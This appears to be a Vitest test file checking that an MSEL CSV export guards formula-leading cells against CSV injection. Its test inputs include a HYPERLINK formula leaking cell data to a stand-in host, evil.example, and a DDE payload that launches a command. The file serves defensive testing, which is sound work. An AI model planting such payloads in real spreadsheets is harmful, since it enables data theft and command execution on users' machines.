import { describe, expect, it } from "vitest";
import { CSV_BOM, mselToCsv } from "../../worker/exercises/export/csv";
import { MSEL_COLUMN_LABELS, mselColumns, type MselRow } from "../../shared/db/exercise-shapes";
import { PLAN_REFERENCE_HEADER } from "../../worker/exercises/export/plan-references";
import { parseCsv } from "../helpers/csv";

/**
 * CSV injection (OWASP): a spreadsheet runs a cell as a formula when it begins with = + - @ (also
 * after leading spaces or control characters, and in their full-width forms), or with a tab or CR.
 * The MSEL export prefixes every such cell with a single quote and keeps RFC 4180 quoting; the cell
 * is otherwise unchanged. Negative numbers ("-5") are guarded too, as OWASP says: they come back as
 * "'-5", text in the sheet. Ordinary text and empty cells are written as they are.
 */

/** The exported CSV of one MSEL row, as [header, row] cells. */
function exportRow(row: MselRow): { header: string[]; cells: Record<string, string>; text: string } {
  const text = mselToCsv([row]);
  expect(text.startsWith(CSV_BOM)).toBe(true);
  const [header, first, ...rest] = parseCsv(text.slice(CSV_BOM.length));
  expect(rest).toEqual([]);
  return { header: header!, cells: Object.fromEntries(mselColumns.map((c, i) => [c, first![i]!])), text };
}

const FORMULAS: [label: string, value: string][] = [
  ["=", "=1+1"],
  ["= HYPERLINK", '=HYPERLINK("http://evil.example?x="&A1,"Click")'],
  ["= DDE", "=cmd|' /C calc'!A0"],
  ["+", "+1+1"],
  ["+ phone-like", "+1 555 0100"],
  ["-", "-1+1"],
  ["- then space (a bullet is still a formula start)", "- 2+3"],
  ["- item", "- SimCell"],
  ["lone -", "-"],
  ["@", "@SUM(1,2)"],
  ["@ handle", "@ops"],
  ["space then =", " =1+1"],
  ["spaces then +", "   +1+1"],
  ["tab then =", "\t=1+1"],
  ["CR then =", "\r=1+1"],
  ["LF then =", "\n=1+1"],
  ["CRLF then @", "\r\n@SUM(1)"],
  ["mixed whitespace then -", " \t\r\n-1+1"],
  ["NUL then =", "\u0000=1+1"],
  ["non-breaking space then =", "\u00a0=1+1"],
  ["ideographic space then =", "\u3000=1+1"],
  ["BOM then =", "\ufeff=1+1"],
  ["zero-width space then =", "\u200b=1+1"],
  ["tab then text", "\tplain"],
  ["CR then text", "\rplain"],
  ["lone tab", "\t"],
  ["full-width =", "＝1+1"],
  ["full-width +", "＋1+1"],
  ["full-width -", "－1+1"],
  ["full-width @", "＠SUM(1)"],
  ["space then full-width =", " ＝1+1"],
  ["small form =", "﹦1+1"],
  ["small form +", "﹢1"],
  ["small form -", "﹣1"],
  ["small form @", "﹫SUM(1)"],
  ["negative number", "-5"],
  ["negative decimal", "-0.25"],
  ["= with a comma (still RFC 4180 quoted)", "=1,2"],
  ["= with quotes (still RFC 4180 quoted)", '=A1&"x"'],
];

const PLAIN: [label: string, value: string][] = [
  ["empty", ""],
  ["sentence", "Evacuate the building"],
  ["number", "5"],
  ["decimal", "3.5"],
  ["= inside", "a=b"],
  ["e-mail address", "ops@example.test"],
  ["hyphen inside", "C-suite briefing, 1-2 hours"],
  ["leading space before text", "  indented text"],
  ["LF before text", "\nsecond line first"],
  ["quote first", "'already quoted"],
  ["accents", "Évacuation à 10 h"],
];

describe("CSV export neutralizes formula cells (CSV injection)", () => {
  it.each(FORMULAS)("%s: guarded with a leading quote, otherwise unchanged", (_label, value) => {
    const { cells } = exportRow({ event: "1", synopsis: value, comment: value });
    expect(cells.synopsis).toBe(`'${value}`);
    expect(cells.comment).toBe(`'${value}`);
    expect(cells.event).toBe("1");
  });

  it.each(PLAIN)("%s: written as it is", (_label, value) => {
    const { cells } = exportRow({ event: "1", synopsis: value });
    expect(cells.synopsis).toBe(value);
  });

  it("guards every column, not only free text", () => {
    const row = Object.fromEntries(mselColumns.map((c) => [c, `=${c}()`])) as MselRow;
    const { cells } = exportRow(row);
    for (const c of mselColumns) expect(cells[c]).toBe(`'=${c}()`);
  });

  it("keeps RFC 4180 quoting around guarded cells: the quote goes inside the double quotes", () => {
    const { text } = exportRow({ event: "1", synopsis: "=1,2", message: "\r\n=cmd", comment: '=A1&"x"', from: " @x" });
    expect(text).toContain(`,"'=1,2",`);
    expect(text).toContain(`"'\r\n=cmd"`);
    expect(text).toContain(`"'=A1&""x"""`);
    expect(text).toContain(`,' @x,`);
  });

  it("leaves the header row, empty cells and missing cells as they were", () => {
    const { header, cells, text } = exportRow({ event: "2" });
    // The 13 spec columns, then the plan reference (issue 11), empty for a row the plans do not back.
    expect(header).toEqual([...mselColumns.map((c) => MSEL_COLUMN_LABELS[c]), PLAN_REFERENCE_HEADER]);
    expect(cells).toEqual(Object.fromEntries(mselColumns.map((c) => [c, c === "event" ? "2" : ""])));
    expect(text.endsWith(`2${",".repeat(13)}\r\n`)).toBe(true);
  });
});
